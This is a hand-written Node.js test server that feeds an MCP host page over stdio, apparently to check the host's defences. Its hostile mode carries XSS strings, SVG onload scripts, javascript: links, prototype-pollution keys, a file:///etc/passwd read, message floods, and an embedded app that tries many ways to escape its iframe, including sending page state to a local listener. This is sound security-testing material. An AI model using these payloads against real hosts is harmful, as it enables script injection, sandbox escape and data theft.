// A server for the page: everything that a view shows, over stdio, in the era of its first argument; `hostile` makes its texts attacks.
// It is written by hand, so that it can send what no library would.
import { readFileSync } from "node:fs";
import { createInterface } from "node:readline";

const [era, kind, elsewhere = "http://127.0.0.1:9"] = process.argv.slice(2);
const isHostile = kind === "hostile";
const isModern = era === "modern";
const REVISION = isModern ? "2026-07-28" : "2025-11-25";
const EVIL = "<img src=x onerror=\"document.title='broken out'\"><script>document.title='broken out'</script>\u001b[2J\u202etxet\u202c\u200b";
const shown = (text) => (isHostile ? `${text} ${EVIL}` : text);
const PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";
const SOUND = Buffer.concat([Buffer.from("RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\x01\0\x01\0\x40\x1f\0\0\x40\x1f\0\0\x01\0\x08\0data\0\0\0\0", "latin1")]).toString("base64");
const APP = `<!doctype html><title>app</title><p id="said">waiting</p><p id="answers"></p><p id="secret"></p><!--${"x".repeat(300 << 10)}--><script>
const typed = (e) => { if(e.key==="Enter")return 1; };
const tell = (message) => parent.postMessage({ jsonrpc: "2.0", ...message }, "*");
let reach = "";
try { reach = String(parent.document.title); } catch (error) { reach = "refused"; }
addEventListener("message", ({ data }) => {
  if (data.id === 1) tell({ method: "ui/notifications/initialized" });
  if (data.method === "ui/notifications/tool-input") document.getElementById("said").textContent = JSON.stringify(data.params.arguments) + " " + reach;
  if (data.method === "ui/notifications/tool-input") {
    tell({ id: 2, method: "tools/call", params: '{"name":"echo","arguments":{"text":"x"}},"server":1' });
    tell({ id: 3, method: "tools/call", params: { name: "unlisted" } });
    tell({ id: 4, method: "tools/call", params: { name: "echo", arguments: { text: "by the app" } } });
  }
  if (data.id > 1 && data.id < 9) document.getElementById("answers").textContent += " " + data.id + ":" + (data.error ? data.error.message : data.result.content[0].text);
  if (data.method === "ui/notifications/tool-result") document.getElementById("secret").textContent = data.params.structuredContent.token;
  if (data.method === "ui/notifications/tool-result") tell({ method: "ui/notifications/size-changed", params: { width: 100, height: 99 } });
});
tell({ id: 1, method: "ui/initialize", params: { protocolVersion: "2026-01-26", appInfo: { name: "app", version: "1" }, appCapabilities: {} } });
fetch("https://elsewhere.invalid/").catch(() => {});
</script>`;

// An app that tries each way out of its frame; what gets out asks \`elsewhere\`, which the test listens at.
const ESCAPE = (path) => `${elsewhere}/${path}`;
const EVIL_APP = `<!doctype html><title>app</title><p id="said">tries</p><img src="${ESCAPE("image")}"><link rel="stylesheet" href="${ESCAPE("style")}">
<form id="form" target="_top" method="post" action="${ESCAPE("form")}"></form><a id="link" target="_top" href="${ESCAPE("link")}">x</a><script src="${ESCAPE("script")}"></script><script>
const own = location.origin.replace("localhost", "127.0.0.1") + "/";
const page = "http://127.0.0.1:" + new URL(document.baseURI).port;
const tell = (message) => parent.postMessage({ jsonrpc: "2.0", ...message }, "*");
const tries = {
  top() { top.location.href = "${ESCAPE("top")}"; }, parent() { parent.location = "javascript:document.title='broken out'"; }, name() { parent.name = "broken"; }, title() { parent.document.title = "broken out"; },
  window() { if (open("${ESCAPE("window")}")) throw new Error("opened"); }, form() { document.getElementById("form").submit(); }, link() { document.getElementById("link").click(); },
  fetch() { fetch("${ESCAPE("fetch")}", { mode: "no-cors" }).catch(() => {}); }, beacon() { navigator.sendBeacon("${ESCAPE("beacon")}"); }, socket() { new WebSocket("${ESCAPE("socket").replace("http", "ws")}"); }, events() { new EventSource("${ESCAPE("events")}"); },
  api() { fetch(page + "/api/state").then((one) => one.text()).then((one) => fetch("${ESCAPE("api")}?" + one)).catch(() => {}); }, worker() { new Worker(URL.createObjectURL(new Blob(["fetch('${ESCAPE("worker")}')"]))); }, store() { localStorage.setItem("a", "b"); }, frame() { const one = document.createElement("iframe"); one.src = page + "/"; document.body.append(one); },
  alert() { alert("broken out"); }, print() { print(); }, pointer() { document.body.requestPointerLock()?.catch(() => {}); }, full() { document.body.requestFullscreen().catch(() => {}); },
};
// Calls between browsers, which no policy governs: of its own, and of frames that have a world of their own.
const peer = 'if (globalThis.RTCPeerConnection) { const one = new RTCPeerConnection({ iceServers: [{ urls: "${ESCAPE("").replace("http://", "turn:").replace(/\/$/, "")}?transport=tcp", username: "u", credential: "p" }] }); one.createDataChannel("x"); one.createOffer().then((offer) => one.setLocalDescription(offer)); }';
const framed = (at, members) => { const one = document.createElement("iframe"); Object.assign(one, members); at.append(one); };
tries.peer = () => { const one = document.createElement("script"); one.textContent = peer; document.body.append(one); };
tries.peerOfFrame = () => framed(document.body, { srcdoc: "<script>" + peer + "<\\/script>" });
tries.peerOfScript = () => framed(document.body, { src: "javascript:" + peer });
tries.peerOfShadow = () => { const host = document.createElement("div"); document.body.append(host); framed(host.attachShadow({ mode: "closed" }), { srcdoc: "<script>" + peer + "<\\/script>" }); };
for (const [name, attempt] of Object.entries(tries)) try { attempt(); } catch (error) { /* refused */ }
const cycle = { jsonrpc: "2.0", id: 7, method: "ping" }; cycle.self = cycle;
for (const one of [null, 1, "x", [], cycle, { jsonrpc: "2.0", id: 8, method: { toString: 1 } }, { jsonrpc: "2.0", id: { toString: 1 }, method: "constructor", params: null }, { jsonrpc: "2.0", method: "ui/notifications/sandbox-resource-ready", params: { html: "x" } }]) parent.postMessage(one, "*");
// What JSON would show as {}, a length without values, and what is too long: of these pings the last alone is one.
for (const params of [new Map([["x", new ArrayBuffer(1 << 20)]]), { x: [new Blob(["x"])] }, new Set(["x"]), { x: new Date(0) }, { x: 5n }, { x: new Array(4e9) }, { x: "x".repeat(5 << 20) }, { x: [1, "y", null, true, { z: undefined }] }]) tell({ id: 20, method: "ping", params });
tell({ id: 1, method: "ui/initialize", params: { appInfo: { name: "app", version: "1" }, appCapabilities: {} } });
tell({ id: 2, method: "ui/open-link", params: { url: "javascript:document.title='broken out'" } });
tell({ id: 3, method: "tools/call", params: { name: "__proto__", arguments: {} } });
tell({ id: 4, method: "resources/read", params: { uri: "file:///etc/passwd" } });
addEventListener("message", ({ data }) => { if (data.method === "ui/notifications/tool-input" && data.params.arguments.flood) for (let at = 0; at < 5000; at++) tell({ id: 100 + at, method: "ping" }); });
setTimeout(() => tell({ method: "ui/notifications/initialized" }), 100);
// The last ones, for they take the document away.
addEventListener("message", ({ data }) => { if (data.method === "ui/notifications/tool-result") setTimeout(() => { for (const to of ["data:text/html,<h1>x", URL.createObjectURL(new Blob(["<h1>x"], { type: "text/html" })), "${ESCAPE("self")}"]) location.href = to; }, 100); });
</script>`;
// An app made with the SDK of apps, which is the module at \`elsewhere\`: whole in its document, for nothing is loaded from another place.
const sdkApp = () => {
  const module = readFileSync(elsewhere, "utf8");
  const App = /(\w+) as App[,}]/.exec(module.slice(-2000))[1];
  return `<!doctype html><title>app</title><p id="said">waiting</p><p id="answer"></p><script type="module">${module.replaceAll("</script", "<\\/script")}
const app = new ${App}({ name: "sdk", version: "1.0.0" }, {});
app.ontoolinput = ({ arguments: given }) => { document.getElementById("said").textContent = JSON.stringify(given); };
app.ontoolresult = async ({ content }) => {
  const { content: [echo] } = await app.callServerTool({ name: "echo", arguments: { text: "by the SDK" } });
  document.getElementById("answer").textContent = content[0].text + ", " + echo.text + ", " + app.getHostVersion().name;
};
await app.connect();
</script>`;
};
// Names that every object of JavaScript has.
const NAMES = JSON.parse('{"__proto__":{"type":"string"},"constructor":{"type":"string"},"toString":{"type":"integer"},"hasOwnProperty":{"type":"object","properties":{"valueOf":{"type":"string"}}}}');

const tools = [
  { name: "echo", title: shown("Echo"), description: shown("Gives back what it gets."), inputSchema: { type: "object", properties: { text: { type: "string", description: shown("What it gives back") }, count: { type: "integer", minimum: 1, maximum: 9, default: 1 } }, required: ["text"] }, annotations: { readOnlyHint: true } },
  { name: "every_form", description: "Each form that an argument may have.", inputSchema: {
    type: "object", required: ["flag"], additionalProperties: false, $defs: { node: { type: "object", properties: { name: { type: "string" }, next: { $ref: "#/$defs/node" } } } },
    properties: { flag: { type: "boolean" }, ratio: { type: "number" }, big: { type: "integer" }, colour: { enum: ["red", "green", 7] }, when: { type: "string", format: "date-time" }, words: { type: "array", items: { type: "string" } }, deep: { $ref: "#/$defs/node" }, maybe: { type: ["string", "null"] }, either: { oneOf: [{ title: "by number", type: "object", properties: { id: { type: "integer" } }, required: ["id"] }, { title: "by name", type: "object", properties: { name: { type: "string" } }, required: ["name"] }] }, picture: { type: "string", contentEncoding: "base64" }, any: {} } } },
  { name: "ask", description: "Asks the person.", inputSchema: { type: "object", properties: {} } },
  { name: "visit", description: "Asks for a visit of a page.", inputSchema: { type: "object", properties: { password: { type: "string" } } } },
  { name: "sample", description: "Asks a model, then for folders.", inputSchema: { type: "object" } },
  { name: "slow", description: "Takes its time, with progress, until it is cancelled.", inputSchema: { type: "object" } },
  { name: "media", description: "Text, Markdown, JSON, a picture, sound, a link.", inputSchema: { type: "object" } },
  { name: "fails", description: "Reports an error.", inputSchema: { type: "object" } },
  { name: "dies", description: "Ends the server.", inputSchema: { type: "object" } },
  { name: "remove", description: "Removes everything.", inputSchema: { type: "object" }, annotations: { destructiveHint: true } },
  { name: "huge", description: "A result of a megabyte.", inputSchema: { type: "object" } },
  { name: "app", description: "Has an app.", inputSchema: { type: "object", properties: { place: { type: "string" } } }, _meta: { ui: { resourceUri: "ui://app/view" } } },
  ...(isHostile ? [{ name: "names", description: "Arguments that every object has.", inputSchema: { type: "object", properties: NAMES, required: ["constructor"] } }, { name: "numbers", description: "Numbers that few programs keep.", inputSchema: { type: "object" } }, { name: "links", description: "Addresses that run.", inputSchema: { type: "object" } }, { name: "errs", description: "Fails with markup.", inputSchema: { type: "object" } }, { name: "leads", description: "Asks for a visit.", inputSchema: { type: "object" } }, { name: "escape", description: "Has an app that breaks out.", inputSchema: { type: "object", properties: { flood: { type: "boolean" } } }, _meta: { ui: { resourceUri: "ui://app/escape" } } }, { name: { toString: 1 }, title: { toString: 1 }, description: [{ toString: 1 }], inputSchema: { toString: 1 } }, { name: `x${"y".repeat(1 << 20)}`, description: EVIL, inputSchema: { type: "object" } }, { name: "flood", description: "A flood of messages.", inputSchema: { type: "object" } }, { name: "javascript:alert(1)", title: "</a><script>1</script>", description: EVIL, inputSchema: { type: "object", properties: { [EVIL]: { type: "string", title: EVIL } } } }] : []),
];
if (kind === "many") for (let at = 0; at < 10000; at++) tools.push({ name: `tool_${at}`, title: `tool ${at}`, description: "One of many tools, which does something.", inputSchema: { type: "object" } });
const resources = [{ uri: "note://today", name: shown("today"), description: shown("A note"), mimeType: "text/markdown" }, { uri: "note://own?token=s3cret", name: "own" }, { uri: "ui://app/view", name: "view", mimeType: "text/html;profile=mcp-app" }];
const templates = [{ uriTemplate: "note://{folder}/{name}", name: "notes", description: "A note of a folder" }];
const prompts = [{ name: "review", description: shown("Reviews something"), arguments: [{ name: "what", description: shown("What is reviewed"), required: true }] }];
const serverInfo = { name: shown("page-test"), title: isHostile ? EVIL : "Page test", version: "1.0" };
const capabilities = { tools: { listChanged: true }, resources: { subscribe: true, listChanged: true }, prompts: { listChanged: true }, completions: {}, logging: {}, ...(isModern ? {} : { tasks: { list: {}, cancel: {}, requests: { tools: { call: {} } } } }) };

const send = (message) => process.stdout.write(JSON.stringify({ jsonrpc: "2.0", ...message }) + "\n");
const whole = (result) => (isModern ? { resultType: "complete", ttlMs: 0, cacheScope: "private", ...result } : result);
const text = (said, more = {}) => ({ content: [{ type: "text", text: said }], ...more });
const timers = new Map();
const asked = new Map();
let next = 1;

function called(id, { name, arguments: given = {}, _meta: meta = {}, inputResponses } = {}) {
  const done = (result) => send({ id, result: whole(result) });
  switch (name) {
    case "echo": process.stderr.write(shown("echo was called") + "\n"); return done(text(shown(String(given.text))));
    case "every_form": return done(text(JSON.stringify(given), { structuredContent: given }));
    case "ask": {
      const params = { ...(isModern ? {} : {}), mode: "form", message: shown("Who are you?"), requestedSchema: { type: "object", properties: { name: { type: "string", title: "Name", minLength: 1 }, agree: { type: "boolean" } }, required: ["name"] } };
      if (isModern) {
        const answer = inputResponses?.who;
        return done(answer ? text(`answered: ${JSON.stringify(answer.content ?? answer.action)}`) : { resultType: "input_required", inputRequests: { who: { method: "elicitation/create", params } } });
      }
      const own = `s${next++}`;
      asked.set(own, (result) => done(text(`answered: ${JSON.stringify(result?.content ?? result?.action)}`)));
      return send({ id: own, method: "elicitation/create", params });
    }
    case "visit": {
      const own = `s${next++}`;
      asked.set(own, (result) => done(text(`the visit: ${result?.action}`)));
      return send({ id: own, method: "elicitation/create", params: { mode: "url", elicitationId: own, message: "Visit it", url: "https://elsewhere.invalid/?token=s3cret" } });
    }
    case "sample": {
      const [one, two] = [`s${next++}`, `s${next++}`];
      asked.set(one, (result) => {
        asked.set(two, (roots) => done(text(`a model said ${result?.content?.text}, folders ${JSON.stringify(roots?.roots)}`)));
        send({ id: two, method: "roots/list" });
      });
      return send({ id: one, method: "sampling/createMessage", params: { messages: [{ role: "user", content: { type: "text", text: shown("What is 1 + 1?") } }], maxTokens: 10 } });
    }
    case "slow": {
      let step = 0;
      const token = meta.progressToken;
      const timer = setInterval(() => { step++; if (token !== undefined) send({ method: "notifications/progress", params: { progressToken: token, progress: step, total: 1000, message: shown("working") } }); }, 20);
      timers.set(id, timer);
      return undefined;
    }
    case "media": return done({ content: [{ type: "text", text: `# Heading\n\nSome **bold** text, \`code\` and [a link](https://elsewhere.invalid/).\n\n- one\n- two\n\n![x](https://elsewhere.invalid/x.png)` }, { type: "text", text: '{"number":12345678901234567890,"list":[1,2,3]}' }, { type: "image", mimeType: "image/png", data: PIXEL }, { type: "audio", mimeType: "audio/wav", data: SOUND }, { type: "resource_link", uri: "note://today", name: "today" }, { type: "resource", resource: { uri: "file:///a.csv", mimeType: "text/csv", text: "a,b\n1,\"2,3\"\n" } }, { type: "resource", resource: { uri: "file:///a.html", mimeType: "text/html", text: "<h1>a heading of HTML</h1><p id=script>no script ran</p><script>document.getElementById('script').textContent='it ran'</script>" } }, ...(isHostile ? [{ type: "image", mimeType: "image/svg+xml", data: Buffer.from("<svg xmlns='http://www.w3.org/2000/svg' onload='top.document.title=1'/>").toString("base64") }, { type: "resource", resource: { uri: "javascript:alert(1)", mimeType: "text/html", text: EVIL } }] : [])] });
    case "names": return done(text(JSON.stringify(given), { structuredContent: given }));
    // By hand: no writer of JSON makes these.
    case "numbers": return process.stdout.write(`{"jsonrpc":"2.0","id":${JSON.stringify(id)},"result":${JSON.stringify(whole(text("as they are"))).slice(0, -1)},"structuredContent":{"long":1${"0".repeat(5000)},"great":1e999999,"small":-0,"deep":${"[".repeat(100)}${"]".repeat(100)},"__proto__":{"polluted":1}}}}\n`);
    case "links": return done({ content: [{ type: "resource_link", uri: "javascript:document.title='broken out'", name: EVIL, icons: [{ src: "javascript:1" }, { src: ESCAPE("icon") }] }, { type: "resource_link", uri: `data:text/html,${EVIL}`, name: "data" }, { type: "image", mimeType: "image/svg+xml", data: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" onload="top.document.title='broken out'"><script>top.document.title='broken out'</script><image x:href="${ESCAPE("svg")}"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${ESCAPE("frame")}"/></foreignObject></svg>`).toString("base64") }, { type: "image", mimeType: 'image/png" onerror="document.title=1', data: PIXEL }, { type: "audio", mimeType: 'audio/x" autoplay onerror="document.title=1', data: SOUND }, { type: EVIL, [EVIL]: EVIL }, { type: "text", text: `[x](javascript:1) ![x](${ESCAPE("markdown")})\n\n# ${EVIL}\n\n<iframe src="${ESCAPE("html")}">` }] });
    case "errs": process.stderr.write(`${EVIL}\u001b]8;;javascript:1\u0007x\n`); send({ method: "notifications/message", params: { level: EVIL, logger: EVIL, data: { [EVIL]: EVIL, toString: 1 } } }); return send({ id, error: { code: -32000, message: EVIL, data: { [EVIL]: [EVIL] } } });
    case "leads": {
      const params = { mode: "url", elicitationId: "e", message: EVIL, url: "javascript:document.title='broken out'" };
      if (isModern) return done(inputResponses?.visit ? text(`the visit: ${inputResponses.visit.action}`) : { resultType: "input_required", inputRequests: { visit: { method: "elicitation/create", params } } });
      const own = `s${next++}`;
      asked.set(own, (result) => done(text(`the visit: ${result?.action}`)));
      return send({ id: own, method: "elicitation/create", params });
    }
    case "escape": return done(text("in the app"));
    case "fails": return done(text(shown("It did not work"), { isError: true }));
    case "dies": process.stderr.write("the end\n"); process.exit(1); break;
    case "remove": return done(text("removed"));
    case "huge": return done(text("x".repeat(1 << 20)));
    case "app": return done(text("in the app", { structuredContent: { place: given.place ?? null, token: "s3cret" } }));
    case "flood": for (let at = 0; at < 10000; at++) send({ method: "notifications/message", params: { level: "info", data: `${EVIL} ${at}` } }); return done(text("flooded"));
    default: return send({ id, error: { code: -32602, message: `no tool ${name}` } });
  }
}

createInterface({ input: process.stdin }).on("line", (line) => {
  const { id, method, params = {}, result } = JSON.parse(line);
  if (method === undefined) { asked.get(id)?.(result); asked.delete(id); return; }
  if (id === undefined) { if (method === "notifications/cancelled") { clearInterval(timers.get(params.requestId)); timers.delete(params.requestId); } return; }
  const done = (value) => send({ id, result: whole(value) });
  switch (method) {
    case "initialize": return isModern ? send({ id, error: { code: -32601, message: "Method not found" } }) : done({ protocolVersion: REVISION, capabilities, serverInfo, instructions: shown("Use it for tests.") });
    case "server/discover": return isModern ? done({ supportedVersions: [REVISION], capabilities, serverInfo, instructions: shown("Use it for tests."), _meta: { "io.modelcontextprotocol/serverInfo": serverInfo } }) : send({ id, error: { code: -32601, message: "Method not found" } });
    case "tools/list": return done({ tools });
    case "tools/call": return called(id, params);
    case "resources/list": return done({ resources });
    case "resources/templates/list": return done({ resourceTemplates: templates });
    case "resources/read": return params.uri === "ui://app/escape" ? done({ contents: [{ uri: params.uri, mimeType: "text/html;profile=mcp-app", text: EVIL_APP }] }) : params.uri === "ui://app/view" ? done({ contents: [{ uri: params.uri, mimeType: "text/html;profile=mcp-app", text: kind === "sdk" ? sdkApp() : APP, _meta: { ui: { csp: { connectDomains: ["https://api.invalid", "https://a b"] } } } }] }) : done({ contents: [{ uri: params.uri, mimeType: "text/markdown", text: params.uri === "note://own?token=s3cret" ? "asked for as it is" : shown("# A note\n\nIts text.") }] });
    case "prompts/list": return done({ prompts });
    case "prompts/get": return done({ messages: [{ role: "user", content: { type: "text", text: shown(`Review ${params.arguments?.what}`) } }] });
    case "completion/complete": return done({ completion: { values: ["alpha", "beta", shown("gamma")] } });
    case "tasks/list": return done({ tasks: [{ taskId: "t1", status: "working", ttl: 60000, createdAt: "2026-01-01T00:00:00Z", lastUpdatedAt: "2026-01-01T00:00:00Z", statusMessage: shown("half") }] });
    case "ping": case "logging/setLevel": case "resources/subscribe": case "resources/unsubscribe": return done({});
    case "subscriptions/listen": return undefined;
    default: return send({ id, error: { code: -32601, message: "Method not found" } });
  }
});
